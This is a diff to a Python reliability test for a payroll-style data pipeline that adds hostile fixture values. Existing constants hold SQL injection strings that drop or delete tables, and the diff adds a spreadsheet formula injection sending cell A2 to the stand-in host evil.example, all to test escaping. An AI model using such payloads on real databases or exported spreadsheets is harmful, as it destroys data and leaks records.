@@ -23,6 +23,8 @@ from tests.reliability.support import Pipeline, new_pipeline, step_errors
 
 HOSTILE_COMPANY = 'Robert\'); DROP TABLE nmbrs.companies; -- \\N \t "x" $$ ; select 1'
 HOSTILE_LAST_NAME = "O'Neil\"; delete from nmbrs.employees; --\\"
+FORMULA_COMPANY = '=HYPERLINK("http://evil.example/?x="&A2,"Klik hier")'  # what a spreadsheet would run
+FORMULA_COMPANY_ID = 102
 
 
 @dataclass
@@ -96,8 +98,12 @@ def secured(make_database, tmp_path_factory):
 
 
 def _make_names_hostile(sandbox) -> tuple[int, tuple[int, int]]:
-    """Give company 103 and one of its employees names full of quotes, semicolons and COPY escapes."""
+    """Give company 103 and one of its employees names full of quotes, semicolons and COPY escapes,
+    and company 102 a name that is a spreadsheet formula."""
     world = sandbox.state.world
+    world._companies[FORMULA_COMPANY_ID] = dataclasses.replace(
+        world.company(FORMULA_COMPANY_ID), name=FORMULA_COMPANY
+    )
     company = world.company(103)
     world._companies[103] = dataclasses.replace(company, name=HOSTILE_COMPANY)
     employees = world.employees(103)
